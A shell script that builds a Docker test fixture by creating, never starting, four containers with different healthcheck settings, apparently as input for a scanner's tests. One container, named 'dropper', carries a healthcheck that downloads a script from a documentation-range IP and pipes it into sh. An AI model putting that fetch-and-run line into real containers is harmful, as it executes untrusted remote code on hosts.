#!/bin/sh
# Regenerates test/fixtures/docker/inspect-healthcheck.json from a real dockerd: containers with
# a HEALTHCHECK. One checks its own service with wget (CMD-SHELL), one inherits an exec-form
# HEALTHCHECK CMD [...] from its image, one has the check disabled (NONE), and one's check
# downloads a script and pipes it into sh.
# Containers are created, never started; all is removed after. Run as root with dockerd running,
# after make-docker-fixtures.sh (the offline base image).
set -eu
root=$(cd "$(dirname "$0")/.." && pwd)
out=$root/test/fixtures/docker/inspect-healthcheck.json
prefix=cf-fixture-hc
image=cf-fixture/busybox:1

hc_image=cf-fixture/healthcheck:1
tmp=
cleanup() {
  docker ps -aq --filter "name=^${prefix}-" | xargs -r docker rm -f >/dev/null 2>&1 || true
  docker image rm -f "$hc_image" >/dev/null 2>&1 || true
  [ -z "$tmp" ] || rm -rf "$tmp"
}
trap cleanup EXIT INT TERM
docker image inspect "$image" >/dev/null 2>&1 || {
  echo "needs the offline image $image: scripts/make-docker-fixtures.sh builds it (and rewrites its fixtures)" >&2
  exit 1
}
cleanup
tmp=$(mktemp -d)

docker create --name "$prefix-web" --health-cmd 'wget -q --spider http://127.0.0.1:8080/healthz || exit 1' \
  --health-interval 30s "$image" sleep 3600 >/dev/null
printf 'FROM %s\nHEALTHCHECK --interval=30s CMD ["/bin/ls", "/tmp"]\n' "$image" >"$tmp/Dockerfile"
DOCKER_BUILDKIT=0 docker build -q --network none -t "$hc_image" "$tmp" >/dev/null
docker create --name "$prefix-exec" "$hc_image" sleep 3600 >/dev/null
docker create --name "$prefix-off" --no-healthcheck "$image" sleep 3600 >/dev/null
docker create --name "$prefix-dropper" --health-cmd 'wget -qO- http://203.0.113.50/h.sh | sh' \
  --health-interval 60s "$image" sleep 3600 >/dev/null
# shellcheck disable=SC2046 # one id per word
docker inspect $(docker ps -aq --no-trunc --filter "name=^${prefix}-") >"$out"
echo "wrote $out"
